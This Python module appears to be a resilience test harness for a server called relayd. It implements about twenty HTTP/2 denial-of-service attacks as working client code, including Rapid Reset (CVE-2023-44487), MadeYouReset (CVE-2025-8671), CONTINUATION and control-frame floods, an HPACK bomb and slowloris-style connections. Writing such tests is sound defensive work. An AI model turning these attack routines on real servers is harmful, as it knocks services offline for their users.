"""Clients that do what reliability asks relayd to withstand: one function for each attack."""
import pathlib
import time
from typing import Callable

import frames
from client import Connection
from frames import Wire, frame

# Of an attack: the socket, a key, and when it is to end (time.monotonic()). It returns how often
# the server cut it off.
Attack = Callable[[pathlib.Path, str, float], int]

LONG_LIST = '/v1/orders?limit=1000&offset=0'
GET_FLAGS = frames.END_HEADERS | frames.END_STREAM
ATTACKS: dict[str, Attack] = {}
# Attacks whose connections must be cut off.
FLOODS: set[str] = set()
# Attacks with a key that has a limit; they return how many requests it has refused.
LIMITED: set[str] = set()
HELD = 20


def attack(name: str, is_flood: bool = False) -> Callable[[Attack], Attack]:
    """Enters an attack under its name."""
    def enter(function: Attack) -> Attack:
        ATTACKS[name] = function
        if is_flood:
            FLOODS.add(name)
        return function
    return enter


def headers(path: str, key: str, stream: int, method: str = 'GET', ends: bool = True) -> bytes:
    """A request's HEADERS frame."""
    block = frames.block(frames.request(method, path, key))
    flags = GET_FLAGS if ends else frames.END_HEADERS
    return frame(frames.HEADERS, flags, stream, block)


def opened(unix: pathlib.Path, *settings: bytes) -> Wire:
    """A connection that has begun as it should."""
    wire = Wire(unix, seconds=2)
    wire.begin(*settings)
    wire.send(frame(frames.SETTINGS, frames.ACK))
    return wire


def again(unix: pathlib.Path, until: float, part: Callable[[int], bytes]) -> int:
    """Sends parts on new streams until it is cut off, then again on a new connection."""
    cut = 0
    while time.monotonic() < until:
        wire, stream = opened(unix), 1
        while time.monotonic() < until:
            sent = wire.send(b''.join(part(stream + 2 * n) for n in range(50)))
            stream += 100
            if not sent or is_dismissed(wire):
                cut += 1
                break
        wire.close()
        time.sleep(0.01)
    return cut


def is_dismissed(wire: Wire) -> bool:
    """Reads what has come (never to read is an attack of its own): a GOAWAY, or the end?"""
    while wire.is_readable(0):
        found = wire.next()
        if found is None or found.type == frames.GOAWAY:
            return True
    return False


def hold(wires: list[Wire], until: float) -> int:
    """Waits with open connections that are not read; none of them counts as cut off."""
    time.sleep(max(0.0, until - time.monotonic()))
    for wire in wires:
        wire.close()
    return 0


def flood(name: str, part: bytes) -> None:
    """Enters a flood of one frame."""
    ATTACKS[name] = lambda unix, key, until: again(unix, until, lambda stream: part * 4)
    FLOODS.add(name)


flood('ping', frame(frames.PING, payload=bytes(8)))
flood('settings', frame(frames.SETTINGS))
flood('priority', frame(frames.PRIORITY, 0, 9, bytes((0, 0, 0, 0, 15))))
flood('priority-updates', frame(
    frames.PRIORITY_UPDATE, payload=(0x7FFF_FFFD).to_bytes(4, 'big') + b'u=1, i'))
flood('unknown-frames', frame(0xBA))
flood('window-updates', frame(frames.WINDOW_UPDATE, payload=bytes((0, 0, 0, 1))))


@attack('rapid-reset', is_flood=True)
def rapid_reset(unix: pathlib.Path, key: str, until: float) -> int:
    """CVE-2023-44487: requests that are cancelled at once."""
    cancel = bytes((0, 0, 0, 8))
    return again(unix, until, lambda stream: headers('/v1/orders/1', key, stream)
                 + frame(frames.RST_STREAM, 0, stream, cancel))


@attack('made-you-reset', is_flood=True)
def made_you_reset(unix: pathlib.Path, key: str, until: float) -> int:
    """CVE-2025-8671: requests that the server has to reset."""
    overflow = frames.MAX_WINDOW.to_bytes(4, 'big')
    return again(unix, until, lambda stream: headers(LONG_LIST, key, stream)
                 + frame(frames.WINDOW_UPDATE, 0, stream, overflow))


@attack('continuation', is_flood=True)
def continuation(unix: pathlib.Path, key: str, until: float) -> int:
    """A field block without an end."""
    def part(stream: int) -> bytes:
        if stream == 1:
            return frame(frames.HEADERS, frames.END_STREAM, 1, frames.block([('a', 'b' * 1000)]))
        return frame(frames.CONTINUATION, 0, 1, frames.block([('a', 'b' * 1000)]))
    return again(unix, until, part)


@attack('hpack-bomb')
def hpack_bomb(unix: pathlib.Path, key: str, until: float) -> int:
    """One long field in the dynamic table, named 8 000 times in each request."""
    fields = frames.block(frames.request('GET', '/v1/orders/1', key))
    entry = b'\x40' + frames.text(b'x') + frames.text(b'y' * 3_900)
    return again(unix, until, lambda stream: frame(
        frames.HEADERS, GET_FLAGS, stream, fields + entry + b'\xbe' * 8_000))


@attack('many-fields')
def many_fields(unix: pathlib.Path, key: str, until: float) -> int:
    """A thousand fields in each request."""
    fields = frames.block(frames.request('GET', '/v1/orders/1', key) + [('x', 'y' * 10)] * 1_000)
    return again(
        unix, until, lambda stream: frame(frames.HEADERS, GET_FLAGS, stream, fields[:16_000]))


@attack('empty-data', is_flood=True)
def empty_data(unix: pathlib.Path, key: str, until: float) -> int:
    """A body of empty frames."""
    def part(stream: int) -> bytes:
        first = headers('/v1/orders', key, 1, 'POST', ends=False) if stream == 1 else b''
        return first + frame(frames.DATA, 0, 1) * 4
    return again(unix, until, part)


@attack('never-reads')
def never_reads(unix: pathlib.Path, key: str, until: float) -> int:
    """Twenty connections with wide windows ask for long lists and read nothing."""
    wires = []
    for _ in range(HELD):
        wire = opened(unix, frames.setting(frames.INITIAL_WINDOW_SIZE, frames.MAX_WINDOW))
        wire.send(frame(frames.WINDOW_UPDATE, payload=(1 << 30).to_bytes(4, 'big')))
        wire.send(b''.join(headers(LONG_LIST, key, 2 * n + 1) for n in range(100)))
        wires.append(wire)
    return hold(wires, until)


@attack('window-0')
def window_0(unix: pathlib.Path, key: str, until: float) -> int:
    """Twenty connections with closed windows have a hundred answers each waiting."""
    wires = [opened(unix, frames.setting(frames.INITIAL_WINDOW_SIZE, 0)) for _ in range(HELD)]
    for wire in wires:
        wire.send(b''.join(headers(LONG_LIST, key, 2 * n + 1) for n in range(100)))
    return hold(wires, until)


@attack('turns')
def turns(unix: pathlib.Path, key: str, until: float) -> int:
    """As those that never read, and every answer is to take turns with the others (RFC 9218)."""
    fields = frames.block([*frames.request('GET', LONG_LIST, key), ('priority', 'i')])
    wires = []
    for _ in range(HELD):
        wire = opened(unix, frames.setting(frames.INITIAL_WINDOW_SIZE, frames.MAX_WINDOW))
        wire.send(frame(frames.WINDOW_UPDATE, payload=(1 << 30).to_bytes(4, 'big')))
        wire.send(b''.join(
            frame(frames.HEADERS, GET_FLAGS, 2 * n + 1, fields) for n in range(100)))
        wires.append(wire)
    return hold(wires, until)


@attack('no-settings-ack')
def no_settings_ack(unix: pathlib.Path, key: str, until: float) -> int:
    """Connections that ask and never acknowledge SETTINGS."""
    wires = [Wire(unix, 2) for _ in range(HELD)]
    for wire in wires:
        wire.begin()
        wire.send(headers('/v1/orders/1', key, 1))
    return hold(wires, until)


@attack('stalled-bodies')
def stalled_bodies(unix: pathlib.Path, key: str, until: float) -> int:
    """Twenty connections hold fifty bodies each that do not end."""
    wires = [opened(unix) for _ in range(HELD)]
    for wire in wires:
        for stream in range(1, 101, 2):
            wire.send(headers('/v1/orders', key, stream, 'POST', ends=False)
                      + frame(frames.DATA, 0, stream, b' ' * 1_200))
    return hold(wires, until)


@attack('fast-upload')
def fast_upload(unix: pathlib.Path, key: str, until: float) -> int:
    """Bodies far beyond the window."""
    data = frame(frames.DATA, 0, 1, b' ' * 16_000)

    def part(stream: int) -> bytes:
        first = headers('/v1/orders', key, 1, 'POST', ends=False) if stream == 1 else b''
        return first + data
    return again(unix, until, part)


@attack('many-streams')
def many_streams(unix: pathlib.Path, key: str, until: float) -> int:
    """Requests without an end, more than may be open."""
    return again(unix, until, lambda stream: headers(
        '/v1/orders', key, stream, 'POST', ends=False))


@attack('silence')
def silence(unix: pathlib.Path, key: str, until: float) -> int:
    """Four hundred connections that say nothing, or half of a preface."""
    wires = [Wire(unix, 2) for _ in range(400)]
    for wire in wires[::2]:
        wire.send(frames.PREFACE[:12])
    return hold(wires, until)


@attack('hang-up')
def hang_up(unix: pathlib.Path, key: str, until: float) -> int:
    """Connections that ask for a hundred lists and are closed at once."""
    while time.monotonic() < until:
        wire = opened(unix)
        wire.send(b''.join(headers(LONG_LIST, key, 2 * n + 1) for n in range(100)))
        wire.close()
    return 0


@attack('garbage')
def garbage(unix: pathlib.Path, key: str, until: float) -> int:
    """What is no HTTP/2, and frames longer than may be."""
    lengths = 0
    while time.monotonic() < until:
        lengths += 1
        wire = opened(unix)
        wire.send(b'GET / HTTP/1.1\r\n\r\n' if lengths % 2 else b'\xff' * 9 + bytes(20_000))
        wire.close()
    return 0


@attack('dribble')
def dribble(unix: pathlib.Path, key: str, until: float) -> int:
    """A hundred connections send a request byte by byte."""
    wires = [opened(unix) for _ in range(100)]
    for byte in headers('/v1/orders/1', key, 1)[:-1]:
        if time.monotonic() > until:
            break
        for wire in wires:
            wire.send(bytes((byte,)))
        time.sleep(0.005)
    return hold(wires, until)


@attack('over-the-limit')
def over_the_limit(unix: pathlib.Path, key: str, until: float) -> int:
    """Twenty connections with a hundred requests each under way, far beyond the rate of their key."""
    connections = [Connection(str(unix)) for _ in range(HELD)]
    fields = frames.request('GET', '/v1/orders/1', key)
    refused = 0
    while time.monotonic() < until:
        for connection in connections:
            streams = [connection.begin(fields, None) for _ in range(100)]
            refused += sum(connection.end(stream, until + 5).status == 429 for stream in streams)
    for connection in connections:
        connection.close()
    return refused


LIMITED.add('over-the-limit')
